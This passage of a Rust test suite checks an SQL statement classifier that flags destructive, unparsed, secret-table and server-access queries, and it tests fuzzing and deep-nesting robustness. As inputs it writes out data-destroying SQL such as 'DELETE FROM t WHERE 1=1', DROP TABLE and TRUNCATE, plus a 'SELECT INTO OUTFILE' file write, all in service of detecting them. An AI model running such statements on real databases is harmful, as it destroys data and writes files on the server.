    let c = Classifier::new(PG, ClassifierOptions::default());
    let mut failures = Vec::new();
    for sql in SECRETS_IN_TABLE_POSITION {
        let a = c.classify(sql);
        let ok = a.statements.iter().all(|s| {
            s.classes.contains(Class::Unparsed) || s.tables.iter().any(|t| t == "secrets")
        });
        if !ok {
            failures.push(format!("{sql}: {a:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn delete_with_constant_where_is_destructive_but_not_with_a_key() {
    let c = Classifier::new(PG, ClassifierOptions::default());
    let d = |sql| {
        c.classify(sql).statements[0]
            .classes
            .contains(Class::Destructive)
    };
    assert!(d("DELETE FROM t WHERE 1=1"));
    assert!(!d("DELETE FROM t WHERE id = 1"));
    assert!(d("DELETE FROM t WHERE 1=1"));
}

#[test]
fn commands_and_statement_count() {
    let c = Classifier::new(PG, ClassifierOptions::default());
    let a = c.classify("BEGIN; CREATE TABLE t (a int); DROP TABLE IF EXISTS t; COMMIT");
    let cmds: Vec<&str> = a.statements.iter().map(|s| s.command.as_str()).collect();
    assert_eq!(cmds, ["BEGIN", "CREATE TABLE", "DROP TABLE", "COMMIT"]);
    assert!(c.classify(" -- nothing\n ; ").statements.is_empty());
}

/// A classifier caching `cache_capacity` shapes that reads strings of up
/// to `max_parse_bytes`.
fn limited(dialect: Dialect, cache_capacity: usize, max_parse_bytes: usize) -> Classifier {
    Classifier::new(
        dialect,
        ClassifierOptions {
            cache_capacity,
            max_parse_bytes,
            ..Default::default()
        },
    )
}

#[test]
fn long_statements_are_not_parsed() {
    let c = limited(PG, 10, 64);
    let long = format!("SELECT {} FROM t", "a, ".repeat(40) + "b");
    let s = &c.classify(&long).statements[0];
    // Unread, it could be anything: every class, so that every rule for
    // what it might be applies (the shipped rules deny `server_access`).
    assert_eq!(s.classes, ClassSet::of(&Class::ALL));
    assert!(s.note.as_deref().unwrap_or("").contains("max_parse_bytes"));
    // Not parsed means not placed: PostgreSQL has no keyword fallback.
    let drop = format!("DROP TABLE {}", "t, ".repeat(40) + "u");
    let s = &c.classify(&drop).statements[0];
    assert_eq!(s.classes, ClassSet::of(&Class::ALL));
    // MySQL too: its leading keywords are not what it does.
    let my = limited(MY, 10, 64);
    let outfile = format!("SELECT 1 /* {} */ INTO OUTFILE '/tmp/x'", "x".repeat(80));
    assert_eq!(
        my.classify(&outfile).statements[0].classes,
        ClassSet::of(&Class::ALL)
    );
    // So is what the lexer or the grammar rejects.
    for bad in [
        "SELECT 'x",
        "SELEKT 1",
        "SELECT 1; TRUNCATE t; DELET FROM t",
    ] {
        for s in &c.classify(bad).statements {
            assert_eq!(s.classes, ClassSet::of(&Class::ALL), "{bad}");
        }
    }
}

#[test]
fn analyses_never_hold_literals() {
    let c = Classifier::new(PG, ClassifierOptions::default());
    for sql in [
        "SELECT * FROM t WHERE pw = 'hunter2'",
        "SELEKT 'hunter2'",
        "SELECT 'hunter2",
        "INSERT INTO t VALUES ($$hunter2$$)",
        "SELECT (('hunter2'",
    ] {
        let a = c.classify(sql);
        let text = format!("{a:?}");
        assert!(!text.contains("hunter2"), "{sql}: {text}");
    }
}

/// Deterministic xorshift: no proptest, same inputs on every run.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[test]
fn random_input_never_panics() {
    let pg = limited(PG, 64, 4096);
    let my = limited(MY, 64, 4096);
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    const ALPHABET: &[u8] = b"$'\"`;-/*#\\eEuUxXbB&!(),.=? \n0123456789abcSELECTDROPset_config";
    let check = |sql: &str| {
        for c in [&pg, &my] {
            let a = c.classify(sql);
            assert!(a.statements.iter().all(|s| !s.classes.is_empty()));
        }
    };
    for _ in 0..3000 {
        let len = (rng.next() % 40) as usize;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                let r = rng.next();
                if r % 4 == 0 {
                    (r >> 8) as u8
                } else {
                    ALPHABET[(r >> 8) as usize % ALPHABET.len()]
                }
            })
            .collect();
        check(&String::from_utf8_lossy(&bytes));
    }
    for (_, sql, _, _) in CASES {
        for _ in 0..8 {
            let cut = (rng.next() as usize) % (sql.len() + 1);
            check(&String::from_utf8_lossy(&sql.as_bytes()[..cut]));
            let mut b = sql.as_bytes().to_vec();
            let at = (rng.next() as usize) % b.len().max(1);
            if let Some(x) = b.get_mut(at) {
                *x = ALPHABET[(rng.next() as usize) % ALPHABET.len()];
            }
            check(&String::from_utf8_lossy(&b));
        }
    }
}

#[test]
fn deep_nesting_is_unparsed_not_a_stack_overflow() {
    let c = Classifier::new(PG, ClassifierOptions::default());
    // Parentheses make no tree nodes: the server reads this as SELECT 1.
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert_eq!(
        c.classify(&deep).statements[0].classes,
        ClassSet::of(&[Class::Read])
    );
    // A tree deeper than pg_query's decoder allows is unparsed, never a crash.
    for n in [200, 30_000] {
        let chain = format!("SELECT {}", vec!["1"; n].join("+"));
        assert!(c.classify(&chain).statements[0]
            .classes
            .contains(Class::Unparsed));
    }
    let deep_where = format!(
        "DELETE FROM t WHERE {}1=1{}",
        "(".repeat(40),
        ")".repeat(40)
    );
    assert!(c.classify(&deep_where).statements[0]
        .classes
        .contains(Class::Destructive));
}
